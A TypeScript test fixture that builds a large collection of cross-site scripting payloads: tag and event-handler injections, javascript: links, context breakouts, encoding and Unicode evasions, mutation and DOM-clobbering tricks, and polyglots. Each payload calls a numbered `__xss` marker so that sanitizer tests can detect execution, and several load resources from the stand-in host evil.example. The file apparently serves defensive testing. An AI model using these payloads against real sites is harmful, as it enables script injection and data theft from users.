const payloads: (string | ((run: string) => string))[] = [
  // Plain elements that run when they are read.
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script src=//evil.example/NR.js></script>',
  '<script type=module>RUN</script>',
  '<script/x>RUN</script >',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script>/*<!--*/RUN//--></script>',
  '<img src=x onerror=RUN>',
  '<IMG SRC=x ONERROR="RUN">',
  '<img src onerror=RUN//',
  '<img/src=`x`onerror=RUN>',
  '<img src=x\tonerror\n=\rRUN>',
  "<img src=x onerror='RUN'/ alt=a>",
  (run) => `<img src=x onerror="${decimalEntities(run)}">`,
  (run) => `<img src=x onerror="${hexEntities(run)}">`,
  (run) => `<img src=x onerror="eval(String.fromCharCode(${charCodes(run)}))">`,
  '<img srcset=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  (run) => `<svg><script>${hexEntities(run)}</script></svg>`,
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>press</text></a></svg>',
  '<svg><set attributeName=onmouseover to=RUN></svg>',
  (run) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns="http://www.w3.org/2000/svg"><image href=x onerror=${run} /></svg>`)}#x"/></svg>`,
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><title><style><img src=x onerror=RUN></style></title></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=RUN>]]></svg>',
  '<math><a xlink:href=javascript:RUN>press</a></math>',
  '<math href="javascript:RUN">press</math>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<iframe src=javascript:RUN></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  (run) => `<iframe src="data:text/html;base64,${base64(`<script>top.${run}</script>`)}"></iframe>`,
  '<iframe onload=RUN></iframe>',
  '<frameset onload=RUN><frame></frameset>',
  '<object data=javascript:RUN></object>',
  '<object onerror=RUN data=x></object>',
  '<embed src=javascript:RUN>',
  '<applet onerror=RUN code=x></applet>',
  '<video src=x onerror=RUN></video>',
  '<video><source onerror=RUN src=x></video>',
  '<video poster=javascript:RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<audio onloadstart=RUN src=x></audio>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<button autofocus onfocus=RUN>x</button>',
  '<input type=image src=x onerror=RUN>',
  '<a autofocus href=x onfocus=RUN>x</a>',
  '<p tabindex=0 autofocus onfocus=RUN>x</p>',
  '<details open ontoggle=RUN>x</details>',
  '<marquee onstart=RUN>x</marquee>',
  '<div onpointerover=RUN onmouseenter=RUN onclick=RUN style="position:fixed;inset:0">x</div>',
  '<p style="animation:spin 1s" onanimationstart=RUN>x</p>',
  '<x onclick=RUN contenteditable onfocus=RUN>x</x>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
  '<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p>x</button>',
  '<input type=hidden oncontentvisibilityautostatechange=RUN style="content-visibility:auto">',
  // What loads, sends or leads away.
  '<link rel=stylesheet href=//evil.example/NR.css>',
  '<link rel=import href="data:text/html,<script>RUN</script>">',
  '<link rel=prefetch href=//evil.example/NR>',
  '<style>@import "//evil.example/NR.css";</style>',
  '<style>*{background:url(//evil.example/NR)}</style>',
  '<p style="background:url(//evil.example/NR);behavior:url(x.htc)">x</p>',
  '<p style="width:expression(RUN)">x</p>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  `<meta http-equiv="refresh" content="0;url=//evil.example/NR">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="//evil.example/NR/">',
  '<base target=_parent href=javascript:RUN/>',
  '<form action=javascript:RUN><button autofocus>x</button></form>',
  '<form id=f></form><button form=f formaction=javascript:RUN>x</button>',
  '<isindex action=javascript:RUN type=image>',
  '<img src=//evil.example/NR.png>',
  '<table background=//evil.example/NR.png><tr><td>x</table>',
  '<portal src=//evil.example/NR></portal>',
  // Links that run when they are followed.
  'javascript:RUN',
  ' \u0001javascript:RUN',
  'java\tscript:RUN',
  'JaVaScRiPt:RUN//https://milloraa.example/',
  'javascript://milloraa.example/%0aRUN',
  '<a href=javascript:RUN>press</a>',
  '<a href=" java\nscript:RUN">press</a>',
  (run) => `<a href="${decimalEntities(`javascript:${run}`)}">press</a>`,
  (run) => `<a href="${hexEntities(`javascript:${run}`)}">press</a>`,
  '<a href="javascript&colon;RUN">press</a>',
  '<a href="&Tab;java&NewLine;script:RUN">press</a>',
  '<a href="data:text/html,<script>RUN</script>">press</a>',
  '<a href="vbscript:RUN">press</a>',
  '<a href="//evil.example/NR" target=_blank>press</a>',
  '<a href="\\\\evil.example\\NR">press</a>',
  '<a href="x" ping="//evil.example/NR">press</a>',
  // Ways out of an attribute, a title, a comment, a script or a style.
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  "' onmouseover=RUN autofocus onfocus=RUN x='",
  '" style="animation:spin 1s" onanimationstart="RUN',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</script><script>RUN</script>',
  '</SCRIPT\t><svg onload=RUN>',
  '<!--<script></script><script>RUN</script>-->',
  '--><script>RUN</script><!--',
  '--!><img src=x onerror=RUN>',
  ']]><script>RUN</script>',
  '"}</script><script>RUN</script>',
  '","x":"</script><img src=x onerror=RUN>',
  '"-RUN-"',
  "';RUN//",
  '\\";RUN;//',
  '</script\u2028><script>RUN</script>',
  '\u2028RUN\u2029',
  '$\u007bRUN}{{RUN}}<%= RUN %>#{RUN}',
  '{{constructor.constructor("RUN")()}}',
  // Mutations and confused namespaces.
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math><mi><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></mi></math>',
  '<table><caption><svg><p><style><!--</style><img src=x onerror=RUN>--></caption></table>',
  '<template><script>RUN</script></template><template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<noembed><p title="</noembed><img src=x onerror=RUN>">',
  '<plaintext><img src=x onerror=RUN>',
  '<select><option><style></option></select><img src=x onerror=RUN></style>',
  '<p><svg><style>*{font-family:"<\\/style><img src=x onerror=RUN>"}</style></svg></p>',
  '<a title="&lt;/a&gt;&lt;img src=x onerror=RUN&gt;">x</a>',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '%3Cscript%3ERUN%3C/script%3E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  '<\u200bscript>RUN</script>',
  '<script\u00a0>RUN</script>',
  '\u202e<script>RUN</script>\u202c',
  '\ufeff<script>RUN</script>',
  '<ſcript>RUN</ſcript>',
  '<İmg src=x onerror=RUN>',
  // Names that a page or a program reads by mistake.
  '<form id=location><input name=href value="//evil.example/NR"></form>',
  '<img name=cookie><img id=root name=getElementById>',
  '<a id=__reactRouterContext href="javascript:RUN"></a>',
  '<form name=document><input name=cookie></form><img name=body>',
  '<iframe name=defaultView></iframe>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"RUN"}},"$$typeof":"Symbol(react.element)"}',
  // One for every place at once, and one without an end.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e`,
  `"'--></style></script></title></textarea></noscript></template><svg/onload='/*--><html */RUN//'>`,
  `<p title="${'a'.repeat(1_200)}"><img src=x onerror=RUN>`,
  `${'<b>'.repeat(300)}<img src=x onerror=RUN>`,
]

/**
 * What an attacker writes where a name or a text belongs. Each runs `__xss(number)` once a page takes it for more than text;
 * a page under test tells of every such call. No two are alike.
 */
export const hostileHtml: string[] = payloads.map((payload, number) => {
  const run = `__xss(${number})`
  const text = typeof payload === 'string' ? payload.replaceAll('RUN', run) : payload(run)
  return text.replaceAll('NR', String(number))
})

/** All of it, dealt out to so many texts as evenly as can be; each text begins at another place. */
export function hostileTexts(count: number): string[] {
  return Array.from({ length: count }, (_, index) =>
    hostileHtml.filter((_, number) => number % count === index).join(' '),
  )
}

function base64(text: string) {
  return Buffer.from(text).toString('base64')
}

function charCodes(text: string) {
  return [...text].map((character) => character.charCodeAt(0)).join()
}

function decimalEntities(text: string) {
  return [...text].map((character) => `&#${character.charCodeAt(0)};`).join('')
}

function hexEntities(text: string) {
  return [...text]
    .map((character) => `&#x${character.charCodeAt(0).toString(16)}`)
    .join('')
    .concat(' ')
}
